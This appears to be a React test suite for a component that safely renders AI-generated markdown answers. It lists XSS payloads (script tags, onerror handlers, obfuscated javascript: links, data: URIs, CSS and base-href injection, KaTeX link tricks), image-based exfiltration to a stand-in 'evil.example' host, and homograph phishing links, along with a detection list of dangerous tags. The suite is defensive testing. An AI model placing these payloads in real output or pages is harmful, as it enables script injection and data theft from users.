import { act, render, screen, waitFor } from '@testing-library/react';
import fc from 'fast-check';
import { Answer } from './Answer';
import { soup } from './__testUtils__/markdown';

const HARMFUL =
  'script, iframe, object, embed, img, svg, video, audio, source, link, style, form, base, meta, [src], [srcset], [style*="url"], [xlink\\:href]';

/** What a page of a model's making could do harm with. */
function harmIn(container: Element): string[] {
  const found = [...container.querySelectorAll(HARMFUL)];
  const attributes = [...container.querySelectorAll('*')].flatMap(element =>
    [...element.attributes].filter(
      ({ name, value }) =>
        /^on/i.test(name) ||
        (name === 'href' && !/^(https?|mailto):/.test(value)),
    ),
  );
  return [...found.map(e => e.outerHTML), ...attributes.map(a => a.value)];
}

// The copy button of the page's own has an icon.
const withoutOwnIcons = (container: Element) => {
  container.querySelectorAll('button').forEach(button => button.remove());
  return container;
};

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe src="//x"></iframe>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{background:url(//evil.example)}</style>',
  '<base href="//evil.example">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>1</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '<javascript:alert(1)>',
  '![a](https://evil.example/?q=secret)',
  '![a](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![a][r]\n\n[r]: https://evil.example/r',
  '[![a](https://evil.example/i)](https://evil.example/l)',
  '\\(\\href{javascript:alert(1)}{x}\\)',
  '\\(\\includegraphics{https://evil.example/i}\\)',
  '\\(\\htmlStyle{background:url(//evil.example)}{x}\\)',
  '$$\\url{javascript:alert(1)}$$',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img/src=x>\nx\n```',
  '| <img src=x> | [x](javascript:1) |\n| - | - |\n| <script>1</script> | b |',
  'a[^1]\n\n[^1]: <img src=x> [x](javascript:1)',
];

it.each(ATTACKS)('takes the harm out of %s', async attack => {
  const { container } = render(<Answer text={attack} streaming={false} />);
  // Formulas and colours come a moment later.
  await act(() => new Promise(resolve => setTimeout(resolve, 20)));
  expect(harmIn(withoutOwnIcons(container))).toEqual([]);
});

it('takes the harm out of any mixture, streamed or not', () => {
  const piece = fc.oneof(fc.constantFrom(...ATTACKS), soup);
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 5 }),
      fc.boolean(),
      (pieces, streaming) => {
        const { container, unmount } = render(
          <Answer text={pieces.join(' ')} streaming={streaming} />,
        );
        expect(harmIn(withoutOwnIcons(container))).toEqual([]);
        unmount();
      },
    ),
    { numRuns: 30 },
  );
});

it('holds a macro that grows without end in check', async () => {
  const { container } = render(
    <Answer text={'$\\def\\a{\\a\\a}\\a$ and $x$'} streaming={false} />,
  );
  await waitFor(() =>
    expect(container.querySelectorAll('math').length).toBeGreaterThan(0),
  );
});

describe('an image', () => {
  it('is named with its address, not loaded', () => {
    const { container } = render(
      <Answer text="![cat](https://evil.example/?q=1)" streaming={false} />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container).toHaveTextContent('[image not loaded: cat]');
    expect(screen.getByRole('link')).toHaveAttribute(
      'href',
      'https://evil.example/?q=1',
    );
  });
});

describe('a link', () => {
  const link = (text: string) => {
    render(<Answer text={text} streaming={false} />);
    return screen.getByRole('link');
  };

  it('shows where it goes and tells its target nothing', () => {
    const shown = link('[docs](https://example.org/a)');
    expect(shown).toHaveAccessibleName('docs (example.org)');
    expect(shown).toHaveAttribute('href', 'https://example.org/a');
    expect(shown).toHaveAttribute('target', '_blank');
    expect(shown.getAttribute('rel')?.split(' ').sort()).toEqual([
      'nofollow',
      'noopener',
      'noreferrer',
    ]);
  });

  it.each([
    ['[https://bank.example](https://evil.example)', /\(evil\.example\)/],
    ['[bank.example.evil.example](https://evil.example)', /\(evil\.example\)$/],
    ['[аpple.com](https://аpple.com/)', /\(xn--pple-43d\.com\)/],
    ['[write](mailto:a@example.org)', /\(a@example\.org\)/],
    ['https://example.org/a', /^https:\/\/example\.org\/a$/],
  ])('names its destination in %s', (text, name) => {
    expect(link(text)).toHaveAccessibleName(name);
  });

  it.each([
    '/catalog',
    '#top',
    'https://bank.example@evil.example/',
    'http://',
  ])('is words only for %s', target => {
    render(<Answer text={`see [this](${target})`} streaming={false} />);
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
    expect(screen.getByText('this')).toBeInTheDocument();
  });
});
